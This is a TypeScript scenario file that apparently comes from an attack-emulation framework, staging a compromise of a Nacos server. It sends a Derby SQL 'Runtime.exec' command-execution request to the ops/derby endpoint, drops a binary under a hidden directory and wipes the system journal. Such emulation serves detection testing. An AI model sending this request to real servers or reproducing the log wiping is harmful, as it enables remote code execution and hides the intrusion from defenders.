// Played by a toy with the access log of Nacos.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { nacos } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(nacos)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/opt/nacos/.x/nacosd' })
  stage.mark('occurrence')
  const statement = `CALL java.lang.Runtime.exec('${line}')`
  await stage.http('203.0.113.36', `:8848/nacos/v1/cs/ops/derby?sql=${encodeURIComponent(statement)}`)
  await wipe(stage, ['journal'])
}
